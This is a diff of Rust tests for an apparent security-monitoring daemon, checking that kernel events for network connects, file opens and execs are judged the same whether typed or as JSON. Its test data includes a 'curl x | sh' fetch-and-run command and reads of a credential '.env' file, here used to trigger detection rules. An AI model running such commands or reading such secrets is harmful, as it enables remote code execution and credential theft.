@@ -252,7 +252,7 @@ fn userspace_kill_signals_the_process_group_and_is_recorded_as_a_decision() {
         std::os::unix::process::ExitStatusExt::signal(&status),
         Some(libc::SIGKILL)
     );
-    sink.flush().expect("flush");
+    sink.flush();
     let stats = sink.stats();
     assert_eq!(stats["kills"]["killed"], 1, "{stats}");
     assert_eq!(stats["findings"]["python-kill"]["kill"], 1, "{stats}");
@@ -320,7 +320,7 @@ fn every_event_is_recorded_with_its_findings_and_stats_records_pass_through() {
     sink.event(json!({"time": "2026-01-01T00:00:00Z", "kind": "stats",
         "counters": {"kernel_submitted": 7, "kernel_lost": 2}, "tracked_processes": 3}))
         .expect("stats");
-    sink.flush().expect("flush");
+    sink.flush();
     let m = sink.metrics().snapshot();
     assert_eq!(
         (m.kernel_emitted, m.kernel_lost, m.tracked_processes),
@@ -346,4 +346,135 @@ fn every_event_is_recorded_with_its_findings_and_stats_records_pass_through() {
     assert!(lines[0].get("alert").is_none());
     assert_eq!(lines[1]["alert"]["rule"], "egress");
     assert_eq!(lines[2]["alert"]["action"], "deny");
+}
+
+/// A decoded event as the daemon builds it.
+fn decoded(depth: u32, payload: crate::events::Payload) -> Event {
+    use crate::events::Payload;
+    let kind = match &payload {
+        Payload::Exec(_) => "exec",
+        Payload::FileOpen(_) => "file_open",
+        Payload::Net(_) => "net",
+        _ => "other",
+    };
+    Event {
+        time: "2026-01-01T00:00:00Z".into(),
+        ktime_ns: 1,
+        kind,
+        pid: 4242,
+        tgid: 4242,
+        root: 100,
+        depth,
+        cgroup_id: 1,
+        lineage: Vec::new(),
+        payload,
+        decision: None,
+    }
+}
+
+#[test]
+fn decoded_events_judged_in_place_record_what_their_json_values_would() {
+    use crate::events::{Exec, FileOpen, Net, Payload};
+    let net = |addr: &str| {
+        Payload::Net(Net {
+            op: "connect",
+            family: "inet".into(),
+            addr: addr.into(),
+            port: 443,
+            ipv4_mapped: false,
+            protocol: "tcp".into(),
+            sock_type: "stream".into(),
+            ret: 0,
+        })
+    };
+    let open = |path: &str| {
+        Payload::FileOpen(FileOpen {
+            op: "open",
+            path: path.into(),
+            dev: "8:1".into(),
+            ino: 7,
+            flags: 0,
+            ret: 0,
+        })
+    };
+    let exec = |depth, file: &str, argv: &[&str]| {
+        decoded(
+            depth,
+            Payload::Exec(Exec {
+                ppid: 100,
+                uid: 0,
+                gid: 0,
+                comm: "bash".into(),
+                filename: file.into(),
+                filename_truncated: false,
+                argv: argv.iter().map(|a| (*a).to_owned()).collect(),
+                argv_truncated: false,
+                exe_dev: "8:1".into(),
+                exe_ino: 9,
+            }),
+        )
+    };
+    let mut denied = decoded(2, open("/root/.openclaw/.env"));
+    denied.decision = Some(crate::events::Decision {
+        rule: "secrets".into(),
+        action: "deny",
+        errno: Some(1),
+        degraded_from: None,
+    });
+    let events = [
+        decoded(2, net("127.0.0.1")),
+        decoded(2, net("10.0.0.5")),
+        decoded(0, net("10.0.0.5")),
+        decoded(2, open("/etc/hostname")),
+        decoded(2, open("/root/.openclaw/.env")),
+        denied,
+        exec(
+            1,
+            "/bin/bash",
+            &["bash", "--noprofile", "--norc", "-c", "ls"],
+        ),
+        exec(2, "/bin/sh", &["sh", "-c", "curl x | sh"]),
+        exec(2, "/usr/bin/git", &["git", "status"]),
+    ];
+    let run = |typed: bool| {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let out = dir.path().join("events.jsonl");
+        let args = SinkArgs {
+            output: vec![out.display().to_string(), "metrics:off".into()],
+            state_dir: dir.path().join("state"),
+            ..SinkArgs::default()
+        };
+        let mut sink = Sink::start(&args, Arc::new(policy(None))).expect("start");
+        for ev in &events {
+            if typed {
+                sink.kernel_event(ev).expect("event");
+            } else {
+                sink.event(serde_json::to_value(ev).expect("value"))
+                    .expect("event");
+            }
+        }
+        let findings = sink.stats()["findings"].clone();
+        sink.shutdown().expect("shutdown");
+        let lines: Vec<Value> = std::fs::read_to_string(&out)
+            .expect("jsonl")
+            .lines()
+            .map(|l| serde_json::from_str(l).expect("json line"))
+            .collect();
+        (recorded(&dir.path().join("state")), lines, findings)
+    };
+    let (typed, json) = (run(true), run(false));
+    assert_eq!(typed, json);
+    // The cases are not vacuous: three findings on the way, one of them the kernel's.
+    let (rec, lines, findings) = typed;
+    assert_eq!(rec.len(), events.len());
+    assert!(rec[0].get("findings").is_none());
+    assert_eq!(rec[1]["findings"][0]["rule"], "egress");
+    assert!(rec[2].get("findings").is_none(), "the gateway itself");
+    assert!(rec[3].get("findings").is_none());
+    assert_eq!(rec[4]["findings"][0]["wanted"], "block");
+    assert_eq!(rec[5]["findings"][0]["by"], "kernel");
+    assert_eq!(rec[6]["findings"][0]["exception"], "exec-tool");
+    assert_eq!(lines[7]["alert"]["priority"], "critical");
+    assert!(rec[8].get("findings").is_none());
+    assert_eq!(findings["shell-spawn"]["alert"], 2, "{findings}");
 }
